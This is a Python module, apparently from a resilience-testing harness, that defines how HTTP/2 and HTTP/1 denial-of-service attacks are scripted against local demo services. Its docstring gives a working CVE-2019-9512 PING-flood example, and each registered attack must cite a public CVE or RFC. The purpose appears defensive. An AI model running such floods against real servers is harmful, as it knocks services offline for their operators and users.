"""script -- how an attack is written down: what one connection of it sends.

    @attack(on=HTTP2, connections=20, reads=False)
    def ping_flood(line: Line) -> Script:
        \"\"\"CVE-2019-9512: PING frames without end, whose answers are not read.\"\"\"
        yield start()
        yield from forever(frame(PING, 0, b"together") * 1000)

The attacker (sender.py) keeps so many connections, and runs the function for each. What the function yields:

    bytes    are sent, as fast as the server takes them
    a float  waits for so many seconds
    AGAIN    resets the connection, and begins again on a new one

When the function returns, the connection stays open until the attack ends. A connection that the server closes is opened
again, and the function begins again. The docstring names a public source of the attack, then says what it sends.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import Final

import frames

DEMO: Final = ("demo",)
NOTES: Final = ("notes",)
HTTP: Final = (*DEMO, *NOTES)
GRPC: Final = ("route-guide",)
STORE: Final = ("feature-store",)  # which route-guide asks
HTTP2: Final = (*DEMO, *GRPC)  # h2o, and nghttp2
ADMIN: Final = ("demo:admin",)

AGAIN: Final = None
Script = Iterator[bytes | float | None]

POINT = b"\x08\xea\xc7\x93\xe7\x01\x10\xd2\xac\x96\x9c\xfd\xff\xff\xff\xff\x01"


@dataclass(frozen=True)
class Target:
    """A listener: "demo", or "demo:admin"."""

    listener: str

    @property
    def service(self) -> str:
        return self.listener.split(":")[0]

    @property
    def is_admin(self) -> bool:
        return self.listener.endswith(":admin")

    @property
    def is_grpc(self) -> bool:
        return self.listener in (*GRPC, *STORE)

    @property
    def path(self) -> str:
        """One that is answered with success."""
        if self.is_admin:
            return "/healthz"
        return {"demo": "/demo/hello", "notes": "/v1/notes?limit=1"}.get(
            self.service, "/routeguide.RouteGuide/GetFeature"
        )

    @property
    def large(self) -> str:
        """The path of a large reply."""
        return "/v1/notes?limit=100" if self.listener == "notes" else "/metrics"

    def fields(self, method: str = "GET", path: str = "", **more: str) -> list[tuple[str, str]]:
        """Of a request over HTTP/2; "_" in a name stands for "-"."""
        known = [(":method", "POST" if self.is_grpc else method), (":path", path or self.path)]
        known += [(":scheme", "http"), (":authority", "test")]
        known += [("content-type", "application/grpc"), ("te", "trailers")] if self.is_grpc else []
        return known + [(name.replace("_", "-"), value) for name, value in more.items()]

    def block(self, method: str = "GET", path: str = "", **more: str) -> bytes:
        return frames.block(*self.fields(method, path, **more))

    def request(self, stream: int, block: bytes) -> bytes:
        """A whole request over HTTP/2."""
        if self.is_grpc:
            return frames.headers(stream, block, end=False) + frames.data(stream, frames.message(POINT), end=True)
        return frames.headers(stream, block)

    def head(self, method: str = "GET", path: str = "", *fields: str) -> bytes:
        """Of a request over HTTP/1."""
        lines = [f"{method} {path or self.path} HTTP/1.1", "Host: test", *fields, "", ""]
        return "\r\n".join(lines).encode()


class Line:
    """What a script sees of its connection."""

    def __init__(self, target: Target, number: int, turn: int) -> None:
        self.target = target
        self.number = number  # of the connection: 0, 1, ...
        self.turn = turn  # how often it has been opened before
        self.window = frames.WINDOW  # bytes that may be sent on the connection,
        self.windows: dict[int, int] = {}  # and on streams, where they differ from
        self.initial_window = frames.WINDOW
        self.received = b""  # of an attack that keeps it
        self.faults: list[str] = []  # what the server did wrong

    def streams(self) -> Iterator[int]:
        return itertools.count(1, 2)

    def room(self, stream: int) -> int:
        """Bytes that the server's windows allow on a stream now."""
        return max(0, min(self.window, self.windows.get(stream, self.initial_window)))

    def take(self, stream: int, size: int) -> int:
        """As many of these bytes as may be sent now; they count as sent."""
        size = min(size, self.room(stream), frames.MAX_FRAME)
        self.window -= size
        self.windows[stream] = self.windows.get(stream, self.initial_window) - size
        return size


@dataclass(frozen=True)
class Attack:
    name: str
    function: Callable[[Line], Script]
    on: tuple[str, ...]
    connections: int
    reads: bool  # what the server sends
    windows: bool  # keeps to those of HTTP/2: line.room()
    keeps: bool  # what it has read: line.received
    exhausts: tuple[str, ...]  # listeners whose memory it must use up, by what they count and log

    @property
    def about(self) -> str:
        return " ".join(str(self.function.__doc__).split())

    @property
    def source(self) -> str:
        return self.about.split(": ")[0]


ATTACKS: dict[str, Attack] = {}


def attack(
    *,
    on: tuple[str, ...],
    connections: int = 1,
    reads: bool = True,
    windows: bool = False,
    keeps: bool = False,
    exhausts: tuple[str, ...] = (),
) -> Callable[[Callable[[Line], Script]], Callable[[Line], Script]]:
    def declare(function: Callable[[Line], Script]) -> Callable[[Line], Script]:
        name = function.__name__.strip("_").replace("_", "-")
        one = Attack(name, function, on, connections, reads, windows, keeps, exhausts)
        assert name not in ATTACKS, f"two attacks are called {name}"
        assert re.match(r"(CVE-\d{4}-\d+|GHSA-|CWE-\d+|RFC \d+|\S+/\S+#\d+)", one.source), (
            f"{name} names no public source"
        )
        ATTACKS[name] = one
        return function

    return declare


def forever(*parts: bytes | float) -> Script:
    while True:
        yield from parts


def joined(parts: Iterable[bytes], count: int) -> bytes:
    """The first of them, together."""
    return b"".join(itertools.islice(parts, count))
